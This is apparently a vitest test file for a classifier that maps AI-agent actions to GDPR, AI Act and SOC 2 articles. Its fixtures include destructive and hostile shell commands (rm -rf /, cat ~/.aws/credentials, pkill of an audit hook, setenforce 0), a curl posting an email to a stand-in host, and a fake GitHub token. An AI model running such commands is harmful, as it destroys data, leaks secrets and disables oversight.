import { describe, expect, it } from 'vitest'
import { articles } from '../../src/classify/compliance/map-articles.ts'
import { FRAMEWORKS } from '../../src/domain/frameworks.ts'
import { classifyEvent } from './classify-event.ts'

type Event = Parameters<typeof classifyEvent>[0]

const mail = 'ana@example.com'
const secret = ['ghp', '_', 'q7Rk2LmZ9xTb4VnC8wYd', 'H3sJ6pFg1aUe5oBi'].join('')
const query = (text: string): Event => ({ action: 'database_query', data: { query: text } })
const command = (text: string): Event => ({ action: 'shell_command', data: { command: text } })
const connector = (name: string, operation: string, data = {}): Event => ({
  action: 'connector_access',
  data: { connector: name, operation, ...data },
})

/** Framework and article, then events that it may concern, then events that it does not. */
const CASES: readonly (readonly [string, readonly Event[], readonly Event[]])[] = [
  [
    'gdpr art_5',
    [connector('crm', 'export_contacts'), connector('crm', 'bulk_export', { to: mail })],
    [connector('crm', 'get_contact'), command('pg_dump shop')],
  ],
  [
    'gdpr art_9',
    [query('SELECT diagnosis FROM patients'), { action: 'file_read', data: { path: 'clinic/medical.csv' } }],
    [query('SELECT total FROM orders'), command('npm run health-check-ui')],
  ],
  ['gdpr art_10', [query('SELECT convictions FROM people')], [query('SELECT convert FROM people')]],
  [
    'gdpr art_15',
    [{ action: 'handle_access_request', data: { subject_access: true, email: mail, text: mail } }],
    [{ action: 'file_read', data: { text: mail } }],
  ],
  [
    'gdpr art_17',
    [
      { action: 'delete_user', data: { email: mail } },
      query(`DELETE FROM u WHERE m = '${mail}'`),
      connector('crm', 'delete_contact', { email: mail }),
    ],
    [connector('crm', 'get_contact', { email: mail }), command('rm -rf dist')],
  ],
  [
    'gdpr art_22',
    [
      { action: 'reject_loan_application', data: { applicant: 'A-7' } },
      connector('ats', 'rank_candidates', { role: 'engineer' }),
    ],
    [{ action: 'note', reasoning: 'because' }, connector('github', 'approve_pull_request')],
  ],
  ['gdpr art_25', [command('ufw disable')], [command('ufw status')]],
  [
    'gdpr art_30',
    [{ action: 'note', data: { text: mail } }],
    [{ action: 'note', data: { text: 'ping 10.1.2.3' } }],
  ],
  [
    'gdpr art_32',
    [
      { action: 'note', data: { text: mail }, context: { environment: 'prod' } },
      { action: 'note', data: { text: secret } },
    ],
    [command('rm -rf /'), { action: 'note', data: { text: mail } }],
  ],
  [
    'gdpr art_33',
    [command(`curl -d 'mail=${mail}' https://x.example`)],
    [{ action: 'note', data: { text: mail } }],
  ],
  ['ai_act art_12', [{ action: 'note' }], []],
  ['ai_act art_19', [{ action: 'note' }], []],
  ['ai_act art_9', [query('DROP TABLE x')], [query('SELECT 1')]],
  ['ai_act art_14', [query('DROP TABLE x')], [query('SELECT 1')]],
  [
    'ai_act art_13',
    [{ action: 'reject_loan_application', reasoning: 'The income is too low.' }],
    [{ action: 'reject_loan_application' }, { action: 'note', reasoning: 'because' }],
  ],
  ['ai_act art_15', [command('pkill -f audit-hook'), command('setenforce 0')], [command('ls')]],
  [
    'ai_act art_26',
    [{ ...query('DROP TABLE x'), context: { environment: 'production' } }],
    [query('DROP TABLE x')],
  ],
  [
    'ai_act art_73',
    [{ ...command('rm -rf /'), context: { environment: 'production' } }],
    [command('rm -rf /')],
  ],
  [
    'soc2 art_6',
    [command('cat ~/.aws/credentials'), { action: 'note', data: { text: secret } }],
    [command('ls')],
  ],
  ['soc2 art_7', [query('DROP TABLE x'), command('rm -rf /var/log')], [query('SELECT 1')]],
  [
    'soc2 art_8',
    [{ action: 'file_write', data: { path: 'a.ts' } }, { action: 'deploy' }, query('DROP TABLE x')],
    [
      { action: 'file_read', data: { path: 'a.ts' } },
      query('SELECT 1'),
      command('ls 2>/dev/null'),
      connector('calendar', 'create_event', { title: 'lunch' }),
    ],
  ],
]

describe.each(CASES)('%s', (name, concerned, others) => {
  const [framework = '', id = ''] = name.split(' ')
  const articlesOf = (event: Event) =>
    classifyEvent(event).frameworks[framework as keyof ReturnType<typeof classifyEvent>['frameworks']]

  it.each(concerned)('may concern %j', (event) => expect(articlesOf(event)).toContain(id))
  if (others.length > 0)
    it.each(others)('does not concern %j', (event) => expect(articlesOf(event)).not.toContain(id))
})

it('every article has what the catalogue shows, once', () => {
  expect(new Set(articles.map(({ framework, id }) => `${framework} ${id}`)).size).toBe(articles.length)
  for (const { framework, id, title, source, url, condition } of articles) {
    expect(FRAMEWORKS).toContain(framework)
    expect(id).toMatch(/^art_\d+$/)
    expect(condition).toMatch(/^May concern: /)
    for (const text of [title, source, condition]) expect(text.length).toBeGreaterThan(5)
    expect(url).toMatch(/^https:\/\//)
  }
})
